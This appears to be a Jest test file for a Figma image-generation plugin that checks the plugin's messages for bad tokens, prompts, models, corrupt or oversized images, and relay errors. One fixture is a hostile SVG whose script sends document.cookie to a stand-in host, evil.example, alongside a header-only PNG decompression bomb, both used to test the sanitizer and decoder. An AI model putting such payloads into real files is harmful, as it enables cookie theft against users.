/**
 * Bad inputs, one table: each row sets something up, runs one job through the whole loop
 * (controller on the Figma fake, job runner, client, relay over HTTP, Replicate protocol
 * server) and names the exact words the person sees: the job's message (shown at the top
 * of the job in the panel) or a variant's reason (shown as "Failed: <reason>"), or, for
 * inputs the plugin quietly corrects, what it did instead.
 *
 * Image conversion runs the panel's REAL ui/images/to-placeable.ts on a sharp-backed
 * canvas shim (tests/support/canvas-shim.ts): sniffing, pass-through, the 4096 px limit
 * and its messages are the panel's own; only the decoder is sharp instead of Chromium's.
 * SVG is never rasterised by the panel: it is rebuilt from an allow-list in the panel
 * (ui/images/sanitize-svg.ts), goes to the controller as text and becomes vectors via
 * figma.createNodeFromSvg.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import sharp from 'sharp';
import { parseRecipe, RECIPE_KEY } from '../../shared/recipe';
import { TOOL_SPECS } from '../../shared/tools';
import { startJob } from '../../ui/jobs/run-job';
import { createPacer } from '../../ui/jobs/pacer';
import type { JobSnapshot, JobSpec } from '../../ui/jobs/job-spec';
import { toPlaceable } from '../../ui/images/to-placeable';
import { DEFAULT_SPEC, nodesOnAllPages, startRig, waitFor, type Rig, type RigOptions } from '../support/rig';
import { isHumanSentence } from './checks';

let rig: Rig | undefined;
let extraServer: Server | undefined;
afterEach(async () => {
  await rig?.close();
  rig = undefined;
  await new Promise<void>((r) => (extraServer ? extraServer.close(() => r()) : r()));
  extraServer = undefined;
});

let svgSeen: string[] = [];
const GENERIC = 'No image could be placed.';
const CREATE = 'POST /v1/models/*/*/predictions';
const DELIVERY = 'GET /delivery/*';

/**
 * What the panel shows about a job: its message, else the first variant's reason ("Failed:
 * <reason>") or note ("Placed. <note>"), else the variants' states. The generic "No image
 * could be placed." gives way to the reason under it.
 */
function shown(job: JobSnapshot): string {
  if (job.message && job.message !== GENERIC) return job.message;
  for (const v of job.variants) if (v.status === 'failed') return v.reason;
  if (job.message) return job.message;
  for (const v of job.variants) if (v.status === 'placed' && v.note) return v.note;
  return job.variants.map((v) => v.status).join(',') || '(nothing)';
}

/** An HTTP server on loopback that answers everything with `body`. */
async function serve(status: number, body: string, contentType: string): Promise<string> {
  extraServer = createServer((_req, res) => {
    res.writeHead(status, { 'content-type': contentType });
    res.end(body);
  });
  await new Promise<void>((r) => extraServer!.listen(0, '127.0.0.1', r));
  return `http://127.0.0.1:${(extraServer.address() as AddressInfo).port}`;
}

/** The relay gets `bytes` for the first output download (as if the CDN had sent them). */
function deliverOnce(bytes: Buffer, contentType: string): RigOptions {
  let used = false;
  return {
    relay: {
      fetch: async (input, init) => {
        const url = input instanceof Request ? input.url : String(input);
        if (!used && url.includes('/delivery/')) {
          used = true;
          return new Response(new Uint8Array(bytes), { status: 200, headers: { 'content-type': contentType } });
        }
        return fetch(input, init);
      },
    },
  };
}

async function png(width: number, height: number): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 200, g: 80, b: 40 } } }).png().toBuffer();
}

/** A PNG whose header claims `side`×`side` pixels but holds no real image data. */
function pngHeaderOnly(side: number): Buffer {
  const b = Buffer.alloc(64);
  Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]).copy(b, 0);
  b.writeUInt32BE(13, 8);
  b.write('IHDR', 12, 'latin1');
  b.writeUInt32BE(side, 16);
  b.writeUInt32BE(side, 20);
  b[24] = 8;
  b[25] = 2;
  return b;
}

const SCRIPTED_SVG =
  '<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" onload="alert(document.cookie)">' +
  '<script>fetch("https://evil.example/steal?c="+document.cookie)</script>' +
  '<rect width="64" height="64" fill="#f80" onclick="alert(1)"/>' +
  '<foreignObject><iframe src="https://evil.example"></iframe></foreignObject>' +
  '<a href="https://evil.example"><circle cx="32" cy="32" r="10"/></a></svg>';

interface Row {
  name: string;
  options?: RigOptions;
  /** Async options (e.g. start a server first). */
  prepare?: () => Promise<RigOptions>;
  /** A known bug: the row is skipped and reported (see the BUG comment on the row). */
  bug?: string;
  /** Defaults to running DEFAULT_SPEC with `spec` over it. */
  spec?: Partial<JobSpec>;
  setup?: (rig: Rig) => Promise<Partial<JobSpec> | void> | Partial<JobSpec> | void;
  run?: (rig: Rig, spec: JobSpec) => Promise<JobSnapshot>;
  says: string | RegExp;
  /** Further checks on the outcome. */
  then?: (job: JobSnapshot, rig: Rig) => void | Promise<void>;
}

const placedCount = (job: JobSnapshot) => job.variants.filter((v) => v.status === 'placed').length;

const rows: Row[] = [
  // ---------------------------------------------------------------- token and settings
  {
    name: 'no token and no server token on the relay',
    run: (r, spec) =>
      startJob(spec, { plugin: r.plugin, replicate: undefined, toPlaceable, pacer: createPacer() }, () => undefined).done,
    says: 'Add your Replicate API token in Settings first (replicate.com/account/api-tokens).',
    then: (job, r) => expect(r.replicate.requests).toHaveLength(0),
  },
  {
    name: 'empty token sent to a relay that has no server token',
    options: { token: '' },
    says: "Replicate didn't accept your API token. Check it in Settings.",
  },
  {
    name: 'wrong token (401)',
    options: { token: 'r8_wrong' },
    says: "Replicate didn't accept your API token. Check it in Settings.",
  },
  {
    name: 'token with a space inside (pasted badly)',
    options: { token: 'r8_test token' },
    says: "Replicate didn't accept your API token. Check it in Settings.",
  },
  {
    name: 'account without credit (402)',
    options: { replicate: { noCreditTokens: ['r8_test_token'] } },
    says: 'Your Replicate account is out of credit. Add billing at replicate.com/account/billing, then try again.',
  },
  // ---------------------------------------------------------------- prompts
  { name: 'empty prompt', spec: { prompt: '' }, says: 'Type a prompt first.' },
  { name: 'prompt of only spaces and newlines', spec: { prompt: ' \n\t ' }, says: 'Type a prompt first.' },
  {
    name: 'prompt of 10 000 characters: runs, and the layer name stays short',
    spec: { prompt: 'a lighthouse '.repeat(770).slice(0, 10_000), count: 1 },
    says: 'placed',
    then: (job, r) => {
      const node = nodesOnAllPages(r.figma).find((n) => n.type === 'RECTANGLE')!;
      expect(node.name.length).toBeLessThanOrEqual(60);
      expect(parseRecipe(node.getPluginData(RECIPE_KEY))!.prompt).toHaveLength(10_000);
    },
  },
  {
    name: 'an edit with no instruction',
    spec: { tool: 'edit', model: TOOL_SPECS.edit.model, prompt: '', source: { nodeId: '1:1' } },
    says: 'Type an instruction first, like “make it night”.',
  },
  // ---------------------------------------------------------------- counts, seeds, sizes
  { name: 'Variants 0 is raised to 1', spec: { count: 0 }, says: 'placed' },
  { name: 'Variants 100 is lowered to 8', spec: { count: 100 }, says: 'placed,placed,placed,placed,placed,placed,placed,placed' },
  { name: 'Variants 2.6 is rounded to 3', spec: { count: 2.6 }, says: 'placed,placed,placed' },
  {
    name: 'Variants not a number (a spec built in code; the panel\'s field ignores non-numbers) becomes 1',
    spec: { count: Number.NaN },
    // Was a bug: 'Invalid "startRun" payload: count: Invalid type: Expected number but received NaN'.
    says: 'placed',
  },
  {
    name: 'negative seed (from a recipe; the panel takes digits only) is sent as it is',
    spec: { count: 1, seed: -5 },
    says: 'placed',
    then: (_job, r) => {
      const create = r.replicate.requests.find((q) => q.method === 'POST')!;
      expect((create.body as { input: { seed: number } }).input.seed).toBe(-5);
    },
  },
  {
    name: 'seed beyond 2^53 is sent as it is',
    spec: { count: 1, seed: 2 ** 60 },
    says: 'placed',
  },
  {
    name: 'an aspect ratio the model does not offer (7:3) gets the nearest one',
    spec: { count: 1, shape: { kind: 'ratio', ratio: '7:3' } },
    says: 'placed',
    then: (_job, r) => {
      const create = r.replicate.requests.find((q) => q.method === 'POST')!;
      expect((create.body as { input: { aspect_ratio: string } }).input.aspect_ratio).toBe('21:9');
    },
  },
  {
    name: 'a frame size of 0×0 (regenerating a zero-height layer) gets a 1×1 placeholder',
    spec: { count: 1, shape: { kind: 'size', width: 0, height: 0 } },
    // Was a bug: 'Invalid "startRun" payload: width: Invalid value: Expected >=1 but received 0; …'.
    says: 'placed',
  },
  {
    name: 'match selection with nothing selected',
    spec: { shape: { kind: 'match-selection' } },
    says: 'Select the frames or shapes to fill, or pick an aspect ratio instead.',
  },
  // ---------------------------------------------------------------- models
  {
    name: 'a model name that is not owner/name',
    spec: { model: 'flux' },
    says: '"flux" is not a model name; use owner/name, like black-forest-labs/flux-schnell.',
  },
  { name: 'a model that does not exist', spec: { model: 'nobody/nothing' }, says: 'Replicate has no model called "nobody/nothing".' },
  {
    name: 'a model with a required input the plugin cannot fill',
    spec: { model: 'acme/needs-style' },
    says: "This model needs an input the plugin can't fill: style_reference.",
  },
  {
    name: 'an input the model rejects (422)',
    spec: { count: 1, baseInput: { num_inference_steps: 99 } },
    says: /^The model rejected an input: num_inference_steps \(.+\)\.$/,
  },
  {
    name: 'refining with a model that takes no image',
    spec: { tool: 'vary', model: 'black-forest-labs/flux-schnell', prompt: 'x', count: 1 },
    setup: async (r) => {
      const rect = r.figma.createRectangle();
      return { source: { nodeId: rect.id } };
    },
    says: "black-forest-labs/flux-schnell takes no input image, so it can't vary.",
  },
  {
    name: 'the safety filter blocks the result',
    spec: { prompt: 'something forbidden', count: 1 },
    says: "The model's safety filter blocked this result. Try rewording the prompt.",
  },
  // ---------------------------------------------------------------- source nodes
  {
    name: 'refining a layer that was deleted',
    spec: { tool: 'vary', model: TOOL_SPECS.vary.model, prompt: 'x', count: 1 },
    setup: async (r) => {
      const rect = r.figma.createRectangle();
      const id = rect.id;
      rect.remove();
      return { source: { nodeId: id } };
    },
    says: 'The selected layer is gone. Select an image and try again.',
  },
  {
    name: 'a locked frame selected for match-selection gets a new layer beside it',
    // Variants apply per frame since Match selection takes them: one here, beside the locked frame.
    spec: { shape: { kind: 'match-selection' }, count: 1 },
    setup: async (r) => {
      const frame = r.figma.createFrame();
      frame.resize(200, 200);
      frame.locked = true;
      r.fake.select([frame]);
      await r.fake.settle();
    },
    says: 'placed',
    then: (_job, r) => {
      const frame = nodesOnAllPages(r.figma).find((n) => n.type === 'FRAME') as FrameNode;
      expect((frame.fills as Paint[]).some((p) => p.type === 'IMAGE')).toBe(false);
    },
  },
  {
    name: 'the placeholder is deleted while the model runs',
    options: { replicate: { latencyMs: 400 } },
    run: async (r, spec) => {
      const handle = r.start({ ...spec, count: 1 });
      await waitFor(() => nodesOnAllPages(r.figma).some((n) => n.name.startsWith('Generating')));
      nodesOnAllPages(r.figma).find((n) => n.name.startsWith('Generating'))!.remove();
      return handle.done;
    },
    says: 'Its placeholder was deleted, so the image was placed on its own.',
  },
  // ---------------------------------------------------------------- what the model sends back
  {
    name: 'corrupt bytes served as image/png',
    spec: { count: 1 },
    setup: (r) =>
      r.replicate.faults.next(DELIVERY, { kind: 'status', status: 200, body: 'x\u0000\u0001garbage'.repeat(50), contentType: 'image/png' }),
    says: "The model returned a file that isn't an image Figma can show.",
  },
  {
    name: 'a WebP with a valid header and a corrupt body',
    spec: { count: 1 },
    setup: (r) =>
      r.replicate.faults.next(DELIVERY, {
        kind: 'status',
        status: 200,
        body: 'RIFF\u0040\u0000\u0000\u0000WEBPVP8 ' + 'garbage!'.repeat(20),
        contentType: 'image/webp',
      }),
    says: "The model's WEBP image could not be decoded.",
  },
  {
    name: 'a PNG header claiming 100 000 × 100 000 px (decompression bomb)',
    spec: { count: 1 },
    options: deliverOnce(pngHeaderOnly(100_000), 'image/png'),
    says: "The model's PNG image could not be decoded.",
  },
  {
    name: 'an HTML page served with status 200 in place of the image',
    spec: { count: 1 },
    setup: (r) =>
      r.replicate.faults.next(DELIVERY, { kind: 'status', status: 200, body: '<html><body>Sign in</body></html>', contentType: 'text/html' }),
    says: "The model returned a file that isn't an image Figma can show.",
  },
  {
    name: 'an image wider than 4096 px is scaled down and the panel says so',
    spec: { count: 1 },
    prepare: async () => deliverOnce(await png(6000, 300), 'image/png'),
    then: (job, r) => {
      const node = nodesOnAllPages(r.figma).find((n) => n.type === 'RECTANGLE') as RectangleNode;
      const hash = (node.fills as ImagePaint[])[0].imageHash!;
      expect(r.fake.images.get(hash)).toMatchObject({ width: 4096, height: 205, format: 'png' });
      expect(job.variants[0]).toMatchObject({ status: 'placed' });
    },
    says: "Scaled from 6000×300 to 4096×205 (Figma's limit is 4096 px).",
  },
  {
    name: 'an SVG with scripts, handlers and foreign HTML becomes clean vectors',
    spec: { count: 1, model: 'recraft-ai/recraft-v3-svg' },
    setup: (r) => {
      r.replicate.faults.next(DELIVERY, { kind: 'status', status: 200, body: SCRIPTED_SVG, contentType: 'image/svg+xml' });
      svgSeen = [];
      const original = r.figma.createNodeFromSvg.bind(r.figma);
      jest.spyOn(r.figma, 'createNodeFromSvg').mockImplementation((svg: string) => {
        svgSeen.push(svg);
        return original(svg);
      });
    },
    // Placed, and the person is told what was left out.
    says: 'Left out of the SVG (nothing in a shared file should run or load from elsewhere): event handlers, <script>, <foreignObject>, links outside the file.',
    then: (_job, r) => {
      // What reached Figma had nothing that runs or reaches out; the shapes survived.
      expect(svgSeen).toHaveLength(1);
      expect(svgSeen[0]).not.toMatch(/<script|onload|onclick|foreignObject|iframe|evil\.example|document\.cookie/i);
      expect(svgSeen[0]).toMatch(/<rect[^>]*fill="#f80"/);
      expect(svgSeen[0]).toMatch(/<circle/);
      expect(nodesOnAllPages(r.figma).some((n) => n.type === 'VECTOR')).toBe(true);
    },
  },
  {
    name: 'the output file has expired (404 on every try)',
    spec: { count: 1 },
    setup: (r) => r.replicate.faults.next(DELIVERY, { kind: 'status', status: 404, body: '{"detail":"Not found.","status":404}', contentType: 'application/json' }, 10),
    says: 'Replicate says: Not found.',
  },
  {
    name: 'fewer images than asked (safety filter held some back)',
    spec: { prompt: 'a few fewer please', count: 3 },
    says: 'The model returned 1 of 3 images; its safety filter may have held some back.',
  },
  // ---------------------------------------------------------------- relay and upstream
  {
    name: 'relay down (nothing listening)',
    options: { relayUrl: () => 'http://127.0.0.1:9' },
    says: "Can't reach the relay at http://127.0.0.1:9. Is it running (npm run relay), and is the Relay URL in Settings right?",
  },
  {
    name: 'Relay URL pointing at a web server that answers HTML',
    prepare: async () => {
      const url = await serve(200, '<!doctype html><html><body>My portfolio</body></html>', 'text/html');
      return { relayUrl: () => url };
    },
    says: /^The server at http:\/\/127\.0\.0\.1:\d+ answered, but not like a relay\. Check the Relay URL in Settings\.$/,
  },
  {
    name: 'Relay URL pointing at a web server that answers 404 HTML',
    prepare: async () => {
      const url = await serve(404, '<html><body>Page not found</body></html>', 'text/html');
      return { relayUrl: () => url };
    },
    says: "The relay answered with a web page instead of Replicate's reply (HTTP 404). Check the Relay URL in Settings.",
  },
  {
    name: 'Relay URL with a wrong path (/api)',
    options: { relayUrl: ({ relay }) => `${relay.url}/api` },
    says: /^The relay at http:\/\/127\.0\.0\.1:\d+\/api doesn't know that address\. Check the Relay URL in Settings\.$/,
  },
  {
    // In Node nothing stops the API calls (a browser would: Replicate sends no CORS headers,
    // so there the person sees "Can't reach the relay at https://api.replicate.com …").
    // What fails here is the download route, which only a relay has.
    name: 'Relay URL pointing at Replicate itself (no relay in between)',
    options: { relayUrl: ({ replicate }) => replicate.url },
    spec: { count: 1 },
    says: 'Replicate says: Not found.',
  },
  {
    name: 'an HTML error page from upstream (a proxy in front of Replicate)',
    setup: (r) =>
      r.replicate.faults.next('GET /v1/models/*/*', { kind: 'status', status: 403, body: '<html><body><h1>403 Forbidden</h1></body></html>', contentType: 'text/html' }),
    says: "The relay answered with a web page instead of Replicate's reply (HTTP 403). Check the Relay URL in Settings.",
  },
  {
    name: 'Replicate keeps failing with 503 on create',
    spec: { count: 1 },
    setup: (r) => r.replicate.faults.next(CREATE, { kind: 'status', status: 503 }),
    says: 'Replicate is having trouble (HTTP 503). Try again shortly.',
  },
  {
    name: 'throttled for longer than the client will wait (Retry-After 600)',
    options: { retry: { maxThrottleWaitMs: 2000 } },
    spec: { count: 1 },
    setup: (r) => r.replicate.faults.next(CREATE, { kind: 'status', status: 429, retryAfter: 600 }),
    says: 'Replicate is limiting how fast you can send requests (Request was throttled. Your rate limit resets in ~600s.). Try again in a minute.',
  },
  {
    name: 'the model crashes (out of memory)',
    spec: { prompt: 'explode', count: 1 },
    says: /^The model failed: CUDA out of memory\. Tried to allocate 2\.00 GiB .*PyTorch\)$/,
  },
  {
    name: 'the prediction is canceled on Replicate (e.g. from the website)',
    spec: { count: 1 },
    setup: (r) => r.replicate.faults.next(CREATE, { kind: 'cancel-upstream' }),
    says: 'The prediction was canceled on Replicate.',
  },
];

test('the table has at least 25 rows', () => {
  expect(rows.length).toBeGreaterThanOrEqual(25);
});

const live = rows.filter((row) => !row.bug);
const known = rows.filter((row) => row.bug);

// Known bugs stay in the table, skipped, each with a BUG comment on its row.
for (const row of known) it.skip(`BUG (${row.bug}): ${row.name}`, () => runRow(row));

test.each(live.map((row) => [row.name, row] as const))('%s', async (_name, row) => runRow(row));

async function runRow(row: Row): Promise<void> {
  rig = await startRig({ ...row.options, ...(await row.prepare?.()) });
  const extra = (await row.setup?.(rig)) ?? {};
  const spec: JobSpec = { ...DEFAULT_SPEC, ...row.spec, ...extra };
  const job = row.run ? await row.run(rig, spec) : await rig.generate(spec);
  const text = shown(job);
  // eslint-disable-next-line no-console
  if (process.env.SHOW_MESSAGES) console.log(`${row.name}\n  -> ${text}`);
  if (typeof row.says === 'string') expect(text).toBe(row.says);
  else expect(text).toMatch(row.says);
  // Whatever the input, the person gets a sentence, and nothing half-made stays behind.
  if (job.message) expect(isHumanSentence(job.message)).toBe(true);
  for (const v of job.variants) {
    expect(['placed', 'failed']).toContain(v.status);
    if (v.status === 'failed') expect(isHumanSentence(v.reason)).toBe(true);
  }
  expect(nodesOnAllPages(rig.figma).filter((n) => n.name.startsWith('Generating'))).toHaveLength(0);
  await row.then?.(job, rig);
}

void placedCount;
